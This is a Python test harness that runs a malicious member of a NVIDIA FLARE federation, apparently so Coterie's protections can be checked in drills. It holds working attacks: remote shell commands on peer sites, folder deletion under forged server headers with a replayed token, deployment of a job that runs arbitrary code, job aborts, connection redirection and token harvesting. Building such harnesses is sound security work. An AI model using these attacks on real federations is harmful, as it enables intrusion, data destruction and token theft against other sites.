"""A malicious member of a federation: a site with its own certificate and code of its own, for tests and drills.

`Intruder` starts it; `python -m deploy.intruder KIT SITE` is the process. It runs FLARE's plain client, without Coterie's protection, and
sends what it is reported over the connection of that client. An attack is a function of this module whose name starts with `attack_`.
"""

import json
import os
import re
import runpy
import subprocess
import sys
import tempfile
import threading
import traceback
from collections.abc import Callable
from hashlib import sha256
from multiprocessing.connection import Connection, Pipe
from pathlib import Path
from time import monotonic, sleep, time_ns
from types import TracebackType
from typing import Any, Self

from coterie.deploy.flare.jobs import KIT, ORGANISATION

TESTS = Path(__file__).parents[1]
JOB = "11111111-2222-3333-4444-555555555555"  # of a job that nobody ordered
SECONDS = 1.0  # for an answer; a message that is refused is not answered
PATIENCE = 10.0  # seconds for an answer that must come
WORDS = ("client_train", "-s", "fed_client.json", "--set", "secure_train=true", f"org={ORGANISATION}", "config_folder=config")


class Intruder:
    """The process of a malicious site, and the line to it."""

    def __init__(self, kit: Path, site: str, **environment: str) -> None:
        self.kit, self.site = kit.absolute(), site
        self.line, theirs = Pipe()
        number = theirs.fileno()
        os.set_inheritable(number, True)
        paths = os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")])
        with (kit / "flare.log").open("ab") as log:
            self.process = subprocess.Popen(
                [sys.executable, "-u", "-m", "deploy.intruder", str(self.kit), site, str(number)],
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=subprocess.STDOUT,
                env={**os.environ, "PYTHONPATH": paths, KIT: str(self.kit), **environment},
                cwd=kit,
                pass_fds=[number],
                start_new_session=True,
            )
        theirs.close()

    def __enter__(self) -> Self:
        self.wait_ready()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        self.end()

    def wait_ready(self, seconds: float = 60.0) -> None:
        """Until the server has taken it in."""
        if not self.line.poll(seconds):
            raise TimeoutError(f"the intruder was not taken in: {(self.kit / 'flare.log').read_text()[-2000:]}")
        assert self.line.recv() == "ready"

    def attack(self, name: str, seconds: float = 60.0, **reported: Any) -> Any:
        """What came of an attack: what the intruder got, as plain values."""
        self.line.send((name, reported))
        if not self.line.poll(seconds):
            raise TimeoutError(f"the attack {name} did not end in {seconds:.0f} s")
        return self.line.recv()

    def end(self) -> None:
        self.process.kill()
        self.process.wait(10)
        self.line.close()


# ---- what runs in the intruder's process -------------------------------------------------------------------------------------------------


class Sender:
    """The client's cell, and what the intruder has seen on it."""

    def __init__(self, cell: Any, kit: Path, site: str) -> None:
        self.cell, self.kit, self.site = cell, kit, site
        self.core = cell.core_cell
        self.forged = threading.local()  # headers that are put into this thread's messages instead of the honest ones
        self.seen: dict[str, Any] = {}  # the server's own token and signature, which it sends with every message
        self.received: list[bytes] = []
        self.core.add_outgoing_request_filter("*", "*", self._forge)
        honest = self.core.process_message

        def process_message(endpoint: Any, connection: Any, app_id: int, message: Any) -> None:
            self._note(message)
            honest(endpoint, connection, app_id, message)

        self.core.process_message = process_message

    def _forge(self, message: Any) -> None:
        message.add_headers(getattr(self.forged, "headers", {}))

    def _note(self, message: Any) -> None:
        from nvflare.private.defs import CellMessageHeaderKeys as Keys

        headers = {key: message.get_header(key) for key in (Keys.CLIENT_NAME, Keys.TOKEN, Keys.TOKEN_SIGNATURE)}
        if headers[Keys.CLIENT_NAME] == "server" and headers[Keys.TOKEN_SIGNATURE]:
            self.seen = headers
        self.received.append(repr(message.headers).encode() + bytes(message.payload or b""))

    def as_server(self) -> dict[str, Any]:
        """Headers of a message that says to come from the server."""
        end = monotonic() + 10
        while not self.seen and monotonic() < end:
            sleep(0.1)
        return {"cn__origin": "server", **self.seen}

    def ask(
        self,
        target: str,
        channel: str,
        topic: str,
        payload: Any = None,
        headers: Any = None,
        forged: Any = None,
        seconds: float = SECONDS,
    ) -> dict[str, Any]:
        """Send a request, and what is answered."""
        from nvflare.private.defs import new_cell_message

        self.forged.headers = dict(forged or {})
        try:
            send = self.core.send_request if channel in DIRECT else self.cell.send_request
            reply = send(channel=channel, topic=topic, target=target, request=new_cell_message(headers or {}, payload), timeout=seconds)
        finally:
            self.forged.headers = {}
        answer = reply.payload
        return {
            "code": str(reply.get_header("cn__return_code")),
            "error": str(reply.get_header("cn__error") or ""),
            "body": plain(getattr(answer, "body", answer)),
            "headers": plain(getattr(answer, "headers", {})),
        }

    def admin(self, peer: str, topic: str, body: Any = "", headers: Any = None, forged: Any = None) -> dict[str, Any]:
        """An order such as the server gives to sites."""
        from nvflare.private.admin_defs import Message
        from nvflare.private.defs import CellChannel

        order = Message(topic=topic, body=body)
        order.set_headers(headers or {})
        return self.ask(peer, CellChannel.CLIENT_MAIN, "admin", order, forged=forged)


DIRECT = (
    "admin",
    "task",
    "server_parent_listener",
    "client_command",
    "return_only",
    "cellnet.channel",
    "_net_manager",
)  # what FLARE does not stream


def plain(value: Any) -> Any:
    """What can be sent over a pipe and read without FLARE."""
    if isinstance(value, (str, int, float, bool, type(None))):
        return value
    if isinstance(value, dict):
        return {str(key): plain(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return [plain(item) for item in value]
    return {"type": type(value).__name__, "text": str(getattr(value, "__dict__", value))[:2000]}


def attack_shell(sender: Sender, peer: str, command: str = "cat site.json", forged: Any = None) -> Any:
    """Read a file of another site's kit."""
    return sender.admin(peer, "sys.shell", command, forged=forged)


def attack_delete(sender: Sender, peer: str, folder: str, as_server: bool = False) -> Any:
    """Delete a folder of another site's machine; also under the server's name, with the token that the server sends to all sites."""
    forged = sender.as_server() if as_server else None
    return sender.admin(peer, "train.delete_run", headers={"job_id": folder}, forged=forged)


def attack_run_program(sender: Sender, peer: str, out: str) -> Any:
    """Deploy a job whose configuration runs a program, and start it."""
    from nvflare.apis.shareable import ReservedHeaderKey as ReservedKey
    from nvflare.fuel.utils.zip_utils import zip_directory_to_bytes
    from nvflare.lighter.utils import load_private_key_file, sign_folders
    from nvflare.private.scheduler_constants import ShareableHeader

    with tempfile.TemporaryDirectory() as folder:
        app = Path(folder) / "app"
        write_job_of_own(app, peer, JOB, out)
        sign_folders(
            str(app), load_private_key_file(str(sender.kit / "startup" / "client.key")), str(sender.kit / "startup" / "client.crt")
        )
        data = zip_directory_to_bytes(str(app), "")
    meta: dict[str, Any] = {"name": "x", "job_id": JOB, "submitter_name": "admin@coterie.local", "submitter_org": ORGANISATION}
    meta |= {"submitter_role": "project_admin", "deploy_map": {"app": ["@ALL"]}, "min_clients": 1, "resource_spec": {}}
    reported = {"job_id": JOB, "job_meta": meta, "app_name": "app"}
    found = {"deploy": sender.admin(peer, "train.deploy", data, reported)}
    found["check"] = sender.admin(peer, "scheduler.check_resource", {}, {"job_id": JOB})
    token = (found["check"]["body"] or {}).get(ReservedKey.HEADERS, {}).get(ShareableHeader.RESOURCE_RESERVE_TOKEN, "")
    found["start"] = sender.admin(peer, "train.start_job", {}, {**reported, ShareableHeader.RESOURCE_RESERVE_TOKEN: token})
    return found


def write_job_of_own(app: Path, site: str, job: str, out: str) -> None:
    """The site's part of a job that runs a program without bringing code: a function of Coterie's is its component."""
    (app / "config").mkdir(parents=True)
    (app / "config" / "evil.py").write_text(f"open({out!r}, 'a').write('run ')\n", encoding="utf-8")
    start = {
        "workspace": {"path": "coterie.deploy.flare.processes.Path", "args": {}},
        "module": "evil",
        "config": "c",
        "options": [],
        "more": {"PYTHONPATH": f"{job}/app_{site}/config", "PYTHONSAFEPATH": ""},
        "locks": [],
    }
    client = {
        "format_version": 2,
        "task_data_filters": [],
        "task_result_filters": [],
        "components": [{"id": "x", "path": "coterie.deploy.flare.processes._start_process", "args": start}],
        "executors": [{"tasks": ["*"], "executor": {"path": "coterie.deploy.flare.jobs.CoterieExecutor", "args": {}}}],
    }
    (app / "config" / "config_fed_client.json").write_text(json.dumps(client), encoding="utf-8")


def attack_clients(sender: Sender, job: str) -> Any:
    """Ask the server who takes part in a job: it knows all tokens."""
    return sender.ask("server", "server_parent_listener", "get_clients", {}, {"job_id": job})


def attack_abort(sender: Sender, job: str) -> Any:
    """End the run of all sites."""
    from nvflare.apis.shareable import Shareable

    return sender.ask(f"server.{job}", "server_command", "abort", Shareable())


def attack_fail(sender: Sender, job: str) -> Any:
    """Tell the server that the job is unsafe, upon which FLARE ends it for all sites."""
    from nvflare.fuel.common.exit_codes import ProcessExitCode

    return sender.ask("server", "task", "report_job_failure", {"job_id": job, "code": ProcessExitCode.UNSAFE_COMPONENT, "reason": "x"})


def attack_garbage(sender: Sender, job: str) -> Any:
    """An answer that FLARE cannot decode, upon which it ends the server's job process."""
    return _stream(sender, f"server.{job}", "server_command", "submit_update", b"\xc1 nothing that can be decoded")


def attack_bulk(sender: Sender, job: str) -> Any:
    """Hide an order to abort in a message of messages."""
    from nvflare.apis.shareable import Shareable
    from nvflare.fuel.f3.cellnet.utils import encode_payload
    from nvflare.fuel.f3.message import Message

    inner = Message({}, Shareable())
    encode_payload(inner, fobs_ctx=sender.core.get_fobs_context())
    headers = dict(inner.headers)
    bulk = [
        {
            "target": f"server.{job}",
            "channel": "server_command",
            "topic": "abort",
            "message": {"headers": headers, "payload": inner.payload},
        }
    ]
    return sender.core.fire_and_forget("cellnet.channel", "bulk", f"server.{job}", Message({}, bulk))


def attack_call_out(sender: Sender, job: str, port: int) -> Any:
    """Have the server's job connect to a port of the intruder's choice, without any certificate."""
    forged = {"cn__conn_url": f"tcp://127.0.0.1:{port}"}
    return _fire(sender, f"server.{job}", "sm__STREAM", "sm__ACK", b"", {"sm__id": 1, "sm__dt": 3, "sm__os": 0, "sm__sq": 0}, forged)


def attack_stop_process(sender: Sender, peer: str) -> Any:
    """The commands with which FLARE's operator looks at and stops the processes of others."""
    return [sender.ask(peer, "_net_manager", topic, None) for topic in ("process_info", "stop")]


def attack_tokens(sender: Sender) -> Any:
    """The marks (`presence`) of all that could be a token in what the server has sent here so far."""
    found = set(re.findall(rb"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}", b" ".join(sender.received)))
    return sorted(sha256(token).hexdigest()[:16] for token in found)


def attack_heartbeat(sender: Sender, patient: bool = False) -> Any:
    """A sign of life, with the token that this site has."""
    from nvflare.apis.shareable import Shareable

    return sender.ask("server", "task", "heart_beat", Shareable(), {"job_ids": []}, seconds=PATIENCE if patient else SECONDS)


def attack_names(sender: Sender, count: int, length: int) -> Any:
    """Signs of life that have come by way of cells that there are not, each of another long name; how many were answered."""
    from nvflare.apis.shareable import Shareable

    first = time_ns()  # other names in each call
    routes = [[(f"{first + number}".rjust(length, "x"), 0.0)] for number in range(count)]
    beat: dict[str, Any] = {"target": "server", "channel": "task", "topic": "heart_beat", "headers": {"job_ids": []}, "seconds": PATIENCE}
    return sum(sender.ask(**beat, payload=Shareable(), forged={"cn__route": route})["code"] == "ok" for route in routes)


def _stream(sender: Sender, target: str, channel: str, topic: str, payload: bytes) -> Any:
    from nvflare.fuel.f3.message import Message
    from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey

    message = Message({StreamHeaderKey.PAYLOAD_ENCODING: "fobs", StreamHeaderKey.STREAM_REQ_ID: "x"}, payload)
    future = sender.cell.send_blob(channel=channel, topic=topic, target=target, message=message)
    end = monotonic() + SECONDS
    while not future.done() and monotonic() < end:
        sleep(0.05)
    return future.done()


def _fire(sender: Sender, target: str, channel: str, topic: str, payload: bytes, headers: Any, forged: Any = None) -> Any:
    from nvflare.fuel.f3.message import Message

    sender.forged.headers = dict(forged or {})
    try:
        return sender.core.fire_and_forget(channel, topic, target, Message(dict(headers), payload))
    finally:
        sender.forged.headers = {}


ATTACKS: dict[str, Callable[..., Any]] = {
    name.removeprefix("attack_"): what for name, what in list(globals().items()) if name.startswith("attack_")
}


def _serve(line: Connection, sender: Sender) -> None:
    line.send("ready")
    while True:
        name, reported = line.recv()
        try:
            line.send(ATTACKS[name](sender, **reported))
        except BaseException:
            line.send({"raised": traceback.format_exc()})


def main(kit: Path, site: str, number: int) -> None:
    """Run FLARE's client, and serve the line once it is registered."""
    import nvflare.private.fed.client.admin as admin

    line = Connection(number)
    honest = admin.FedAdminAgent.__init__

    def init(self: Any, client_name: str, cell: Any, app_ctx: Any) -> None:
        honest(self, client_name, cell, app_ctx)
        threading.Thread(target=_serve, args=(line, Sender(cell, kit, site)), daemon=True).start()

    admin.FedAdminAgent.__init__ = init
    (kit / "transfer").mkdir(exist_ok=True)
    sys.argv = [WORDS[0], "-m", str(kit), *WORDS[1:], f"uid={site}", "heart_beat_interval=4"]
    runpy.run_module("nvflare.private.fed.app.client.client_train", run_name="__main__", alter_sys=True)


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2], int(sys.argv[3]))
